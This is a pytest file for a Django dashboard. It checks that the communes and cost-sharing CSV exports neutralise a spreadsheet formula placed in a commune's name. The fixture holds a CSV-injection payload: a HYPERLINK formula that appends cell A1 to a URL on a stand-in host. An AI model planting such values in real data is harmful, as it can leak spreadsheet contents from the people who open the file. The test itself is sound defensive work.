"""The dashboard's CSV files neutralise formulas: a commune's name is text to a spreadsheet."""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Callable

import pytest
from django.test import Client

from apps.accounts.models import User
from tenants.db import use_public_schema
from tenants.models import Commune
from tenants.usage.models import ClassCountSnapshot

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.com/?x="&A1;"Bordeaux")'


def _rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def booby_trapped_name(db: None) -> None:
    use_public_schema()
    # ``update``: the name is all the test needs, not the routing that a save would refresh.
    Commune.objects.filter(slug="bordeaux").update(name=FORMULA)
    for slug in ("bordeaux", "pessac"):
        ClassCountSnapshot.objects.create(
            commune=Commune.objects.get(slug=slug),
            date=datetime.date(2026, 10, 1),
            primary_classes=1,
            deployed_classes=1,
            deployed_schools=1,
        )


def test_the_communes_csv_neutralises_a_formula_in_a_name(
    booby_trapped_name: None, base_login: Callable[[User], Client], coordinator: User
) -> None:
    response = base_login(coordinator).get("/coordination/communes.csv")

    assert response.status_code == 200
    names = [row[0] for row in _rows(response.content)[1:]]
    assert f"'{FORMULA}" in names
    assert FORMULA not in names
    assert "Pessac" in names


def test_the_cost_sharing_csv_neutralises_a_formula_in_a_name(
    booby_trapped_name: None, base_login: Callable[[User], Client], coordinator: User
) -> None:
    response = base_login(coordinator).get(
        "/coordination/repartition.csv?amount=100&vat=20&date=2026-10-01"
    )

    assert response.status_code == 200
    rows = _rows(response.content)
    assert rows[0][:2] == ["Commune", "Code INSEE"]
    trapped = next(row for row in rows if row[1] == "33063")
    assert trapped[0] == f"'{FORMULA}"
    assert trapped[2:] == ["1", "2", "50,00", "10,00", "60,00"]
